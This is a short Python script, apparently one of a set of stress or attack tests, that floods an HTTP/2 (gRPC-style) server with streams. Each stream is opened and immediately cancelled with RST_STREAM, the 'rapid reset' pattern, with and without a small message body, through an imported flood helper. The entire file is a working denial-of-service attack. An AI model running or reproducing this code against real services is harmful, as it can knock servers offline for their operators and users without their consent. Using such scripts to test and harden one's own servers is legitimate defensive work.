#!/usr/bin/env python3
"""Calls that are begun and taken back at once, without end, on one connection."""

import struct

import attack
from raw_http2 import (DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, call_headers, frame)

SECONDS = 10
CANCEL = struct.pack(">I", 8)


def calls(with_message):
    """Yields pieces of an endless series of calls, each taken back."""
    headers = call_headers()
    stream = 1
    while True:
        piece = b""
        for stream in range(stream, stream + 400, 2):
            piece += frame(HEADERS, stream, headers, END_HEADERS)
            piece += frame(DATA, stream, bytes(5), END_STREAM) if with_message else b""
            piece += frame(RST_STREAM, stream, CANCEL)
        stream += 2
        yield piece


def calls_with_messages(target):
    return attack.flood(target, calls(with_message=True), SECONDS)


def calls_without_messages(target):
    return attack.flood(target, calls(with_message=False), SECONDS)


if __name__ == "__main__":
    attack.run([calls_with_messages, calls_without_messages])
